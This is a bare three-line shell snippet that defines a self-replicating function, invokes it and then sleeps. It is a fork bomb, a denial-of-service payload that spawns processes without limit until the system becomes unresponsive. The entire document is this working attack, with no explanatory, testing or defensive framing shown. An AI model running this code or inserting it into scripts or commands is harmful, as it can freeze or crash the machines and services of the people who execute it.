f() { f | f & }
f
sleep 20
